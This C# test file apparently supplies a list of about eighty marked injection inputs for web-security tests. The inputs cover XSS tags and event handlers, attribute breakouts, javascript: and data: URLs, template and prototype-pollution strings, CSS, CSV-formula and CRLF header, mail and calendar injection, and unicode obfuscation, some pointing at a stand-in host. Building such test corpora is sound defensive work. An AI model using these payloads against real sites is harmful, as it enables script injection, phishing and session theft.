namespace Sanwen.Proof.Tests.Attack.Web.Scripts;

/// <summary>Texts that become something else where a page, mail, calendar or header takes them as they are. Each holds the mark.</summary>
internal static class Payload
{
    public const string Mark = "xss7";

    public static readonly IReadOnlyList<string> All =
    [
        // elements and handlers
        "<script>xss7()</script>",
        "</title><script>xss7()</script>",
        "</textarea><script>xss7()</script>",
        "</style><script>xss7()</script>",
        "</script><script>xss7()</script>",
        "--><script>xss7()</script><!--",
        "]]><script>xss7()</script>",
        "<SCRIPT SRC=//xss7.example/x.js></SCRIPT>",
        "<script/x>xss7()</script >",
        "<img src=x onerror=xss7()>",
        "<img src=x onerror=\"xss7()\"//",
        "<IMG/SRC=x/OnErRoR=xss7()>",
        "<img src=x:x onerror\u000B=xss7()>",
        "<body onload=xss7()>",
        "<details open ontoggle=xss7()>",
        "<input autofocus onfocus=xss7()>",
        "<select autofocus onfocus=xss7()>",
        "<video><source onerror=xss7()>",
        "<marquee onstart=xss7()>",
        "<xss7 onmouseover=xss7() style=position:fixed;inset:0>",
        "<iframe src=javascript:xss7()>",
        "<iframe srcdoc=\"<script>parent.xss7()</script>\">",
        "<object data=javascript:xss7()>",
        "<embed src=data:text/html,xss7>",
        "<base href=//xss7.example/>",
        "<meta http-equiv=refresh content=0;url=//xss7.example>",
        "<link rel=stylesheet href=//xss7.example/x.css>",
        "<form action=//xss7.example><button>登录",
        "<button formaction=//xss7.example>提交",
        "<template><script>xss7()</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=xss7()>\">",

        // svg and math
        "<svg onload=xss7()>",
        "<svg><script>xss7()</script></svg>",
        "<svg><a xlink:href=javascript:xss7()><text y=9>x",
        "<svg><animate onbegin=xss7() attributeName=x>",
        "<svg><set attributeName=onload to=xss7()>",
        "<svg><style><img src=x onerror=xss7()></style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=xss7()>",
        "<math href=javascript:xss7()>x",

        // out of an attribute
        "\" onmouseover=\"xss7()",
        "' onmouseover='xss7()",
        "\"><img src=x onerror=xss7()>",
        "'><img src=x onerror=xss7()>",
        "` onmouseover=xss7() x=`",
        "x onmouseover=xss7() x",
        "&quot; onmouseover=&quot;xss7()",
        "&#34;&#62;&#60;script&#62;xss7()",
        "\\\" onmouseover=xss7() \\\"",

        // addresses
        "javascript:xss7()",
        "JaVaScRiPt:xss7()",
        " javascript:xss7()",
        "java\tscript:xss7()",
        "javascript&colon;xss7()",
        "data:text/html,<script>xss7()</script>",
        "vbscript:xss7()",
        "//xss7.example/x",
        "/\\xss7.example",
        "https://xss7.example/登录",

        // templates, script, JSON, CSS, CSV, calendars and heads of mails
        "{{constructor.constructor('xss7()')()}}",
        "${xss7()}#{xss7()}<%= xss7() %>",
        "@(xss7)@{xss7();}",
        "';xss7();//",
        "\\u003cscript\\u003exss7()",
        "{\"__proto__\":{\"xss7\":1}}",
        "red;background:url(//xss7.example)",
        "}*{display:none}/*xss7*/",
        "=HYPERLINK(\"http://xss7.example\",\"x\")",
        "xss7\r\nATTACH:https://xss7.example/x\r\nEND:VEVENT",
        "xss7\r\nBcc: xss7@x.example\r\n\r\n<b>",
        "xss7\nSet-Cookie: xss7=1",
        "xss7%0d%0aLocation:%20//xss7.example",
        "xss7\u2028Bcc: xss7@x.example\u2029\u0085X-xss7: 1",

        // unicode
        "\u202Exss7 文字倒排\u202C",
        "\u2066xss7\u2067\u2068\u2069\u200F",
        "＜script＞xss7()＜/script＞",
        "\u02BAxss7\u02B9 onmouseover=xss7()",
        "<\u200Bscript>xss7()</script>",
        "<scr<script>ipt>xss7()</scr</script>ipt>",
        "<script\u00A0>xss7()</script>",
        "xss7\0<script>xss7()</script>",
        "%3Cscript%3Exss7()%3C/script%3E",
        "xss7\uFEFF\u200D\u00AD<b>",
        "Z̸̢͎a̴̡l̵͜g̶o xss7 <u>",
    ];
}
